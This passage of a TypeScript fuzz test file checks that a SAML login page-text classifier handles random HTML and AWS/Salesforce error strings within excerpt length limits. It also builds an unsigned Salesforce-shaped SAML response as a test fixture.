        for (const captured of state.flows.slice(-2)) await checkFlow(captured.flow, BARE_CONTEXT);
      });
    },
    testTimeout(runsFor('capture')),
  );

  it(
    'classifies any page text and HTML without throwing, with excerpts of a few hundred characters at most',
    async () => {
      const input = fc.record({
        url: fc.oneof(fc.webUrl(), fc.constantFrom('https://signin.aws.amazon.com/saml', 'https://acme.my.salesforce.com/idp/login', TEST_DEFAULTS.connectAppUrl, '')),
        html: fc.oneof(
          fc.string({ maxLength: 2_000 }),
          fc.array(fc.constantFrom('<', '>', '<script>', '</script>', '<!--', '-->', '&amp;', '&#x', ';', '(Service: AWSSecurityTokenService; Status Code: 400; Error Code: InvalidIdentityToken)', 'Access denied', 'Session expired', 'Insufficient Privileges', 'Your request included an invalid SAML response.', ' ', '\n'), { maxLength: 200 }).map((parts) => parts.join('')),
        ),
      });
      await fuzz('page text', input, runsFor('page'), SEED + 7, async ({ url, html }) => {
        const text = htmlToText(html);
        const reading = classifyPageText({ url, text: text.text, title: text.title });
        if (reading === undefined) return;
        expect(reading.excerpt.length).toBeLessThanOrEqual(300);
        expect((reading.title ?? '').length).toBeLessThanOrEqual(200);
        await Promise.resolve();
      });
    },
    testTimeout(runsFor('page')),
  );

  it('ran the configured number of cases', () => {
    const lines = Object.entries(executed).map(([name, { runs, ms }]) => `  ${name}: ${String(runs)} cases in ${(ms / 1000).toFixed(1)} s (${(ms / Math.max(1, runs)).toFixed(2)} ms/case)`);
    const total = Object.values(executed).reduce((sum, { runs }) => sum + runs, 0);
    console.info(`fuzz: ${String(total)} cases (FUZZ_RUNS=${String(TOTAL_RUNS)}, FUZZ_SEED=${String(SEED)})\n${lines.join('\n')}`);
    // Only meaningful when every property ran (not under a -t filter).
    if (Object.keys(executed).length === Object.keys(SHARES).length) expect(total).toBeGreaterThanOrEqual(TOTAL_RUNS);
  });
});

/** An unsigned Salesforce-shaped response for HAR bodies (no key generation needed at arbitrary-build time). */
function buildSalesforceResponseUnsigned(): string {
  return (
    `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0" IssueInstant="${TEST_DEFAULTS.issueInstant}" Destination="${TEST_DEFAULTS.samlEndpoint}">` +
    `<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">${TEST_DEFAULTS.issuer}</saml:Issuer>` +
    `<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>` +
    `<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a" Version="2.0" IssueInstant="${TEST_DEFAULTS.issueInstant}"><saml:Issuer>${TEST_DEFAULTS.issuer}</saml:Issuer>` +
    `<saml:Subject><saml:NameID>${TEST_DEFAULTS.nameId}</saml:NameID></saml:Subject>` +
    `<saml:AttributeStatement><saml:Attribute Name="https://aws.amazon.com/SAML/Attributes/Role"><saml:AttributeValue>${TEST_DEFAULTS.roleArn},${TEST_DEFAULTS.providerArn}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>` +
    `</saml:Assertion></samlp:Response>`
  );
}
